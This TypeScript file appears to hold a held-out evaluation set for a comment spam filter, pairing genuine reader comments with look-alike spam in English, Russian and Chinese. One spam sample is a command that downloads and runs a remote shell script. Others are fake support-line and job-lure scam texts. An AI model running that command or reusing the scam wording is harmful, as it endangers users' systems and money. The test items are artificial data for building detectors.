// Held-out batch of issue 15's "genuine comments the model still holds or sends to spam"
// (2026-12-07, genuine-gaps): the same four shapes as genuine-gap-examples.ts and the spam of
// their surface, in different wording, written before any score was seen and measured once, at
// the end. English, Russian and Chinese, by hand.

/** A reader's own link beside their own experience with figures, no pitch (held out). */
export const OWN_LINK_GENUINE_HELDOUT: readonly string[] = [
  'My wife and I own a tiny ceramics studio in Osh; exports to Kashgar went from about 200 pieces a month to 60 after the new customs rules. I kept a diary of it on our site, https://osh-ceramics.kg/journal, if anyone wants the details.',
  "Small-business view: I've been importing spare parts from Urumqi for eight years and my margins dropped from 18% to 7% this year. I've posted the invoices (anonymised) at https://partsfromurumqi.blogspot.com",
  'Сам занимаюсь грузоперевозками из Китая через Достык, в этом году ставки выросли на 25%, а объёмы упали. Вёл записи по месяцам, выложил у себя: https://dostyk-gruz.kz/zapisi',
  '我在喀什做干果出口生意，去年对哈萨克斯坦的出货量减少了百分之四十，具体数字我整理在公司网站上：https://kashi-ganguo.com/news/2026',
];

/** SEO and business adverts dressed as a reader's experience (held out). */
export const OWN_LINK_SPAM_HELDOUT: readonly string[] = [
  "I'm a small shop owner too, our sales doubled after using this backlink service. Try it: https://rank-boost.xyz, first month free!",
  'Тоже был маленький бизнес, выручка выросла вдвое после продвижения. Пишите, помогу: https://top-seo-bystro.ru',
  '我也是小老板，用了这家代运营营业额翻倍，联系方式在官网 https://daiyunying-vip.top 欢迎咨询',
];

/** A known brand's real hotline in a reader's first-person, past-tense complaint (held out). */
export const BRAND_HOTLINE_GENUINE_HELDOUT: readonly string[] = [
  "Had the same problem: I rang Halyk Bank on 7111 last Tuesday and they froze my account for a 'security check' for three days.",
  'I phoned China Southern at 95539 twice and they refused to refund the cancelled Almaty leg.',
  'Я звонил в Kaspi на 9999, мне сказали, что перевод в Китай заблокирован по требованию банка-корреспондента.',
  '我给工商银行打了95588，客服说跨境汇款被退回了，让我自己去网点处理。',
];

/** Fake support numbers told as a story (held out). */
export const BRAND_HOTLINE_SPAM_HELDOUT: readonly string[] = [
  "I called the Aeroflot refund line +1-877-555-0133 and got my money back same day, they're available 24 hours, call now",
  'Звонил в службу поддержки Kaspi по номеру 8-800-555-12-12, разблокировали сразу. Обращайтесь, работает круглосуточно',
  '我打了建设银行客服热线400-123-4567，马上帮我解决了，所有问题都可以拨打',
];

/** A shell command or config pasted without backticks or a code fence (held out). */
export const BARE_COMMAND_GENUINE_HELDOUT: readonly string[] = [
  'Run npm install -g vercel and then vercel --prod, the deploy log shows https://my-app.vercel.app as the URL',
  'git clone https://github.com/owid/covid-19-data then python scripts/update.py --country KAZ, takes about five minutes',
  'Проверьте сами: wget https://data.egov.kz/api/v4/dataset.csv и откройте в Excel, цифры не совпадают со статьёй',
  'docker pull postgres:16 然后 docker run -p 5432:5432 -e POSTGRES_PASSWORD=secret postgres:16，我就是这样在本地复现的',
];

/** Spam in the shape of a command (held out). */
export const BARE_COMMAND_SPAM_HELDOUT: readonly string[] = [
  'wget https://free-vpn-crack.top/setup.sh && sh setup.sh for unlimited premium free',
];

/** A driver or courier telling their own earnings, no link, handle or number (held out). */
export const COURIER_GENUINE_HELDOUT: readonly string[] = [
  'Я третий год работаю курьером в Москве, в хороший месяц выходит 90 тысяч, начинал без опыта. Кто хочет узнать, как оформиться, спрашивайте.',
  'Таксую в Бишкеке, в прошлом месяце заработал 60 000 сомов, опыта не было вообще. Если интересно, как попасть в таксопарк, спрашивайте',
  'I started as a courier in Astana with no experience and made 350,000 tenge in my first month. Happy to answer questions about how to sign up with a fleet.',
  '我在乌鲁木齐开网约车，上个月赚了一万二，没有经验也可以，有兴趣的可以问我怎么注册',
];

/** Earnings pitches with a contact (held out). */
export const COURIER_SPAM_HELDOUT: readonly string[] = [
  'Заработала 120 000 за первый месяц без опыта, график свободный! Подробности в телеграм @rabota_kurier_msk',
  'Earned 80k last month as a driver with zero experience, message me on Telegram @fleet_jobs_kz to sign up',
  '跑外卖月入过万，零经验，当天入职，联系电话13800138000',
];
